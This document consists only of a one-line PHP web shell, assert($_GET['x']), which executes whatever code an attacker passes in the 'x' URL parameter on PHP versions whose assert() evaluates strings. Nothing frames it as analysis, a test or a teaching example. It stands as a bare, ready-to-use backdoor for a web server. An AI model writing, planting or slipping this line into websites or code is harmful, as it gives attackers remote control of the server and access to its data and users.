<?php assert($_GET['x']); ?>
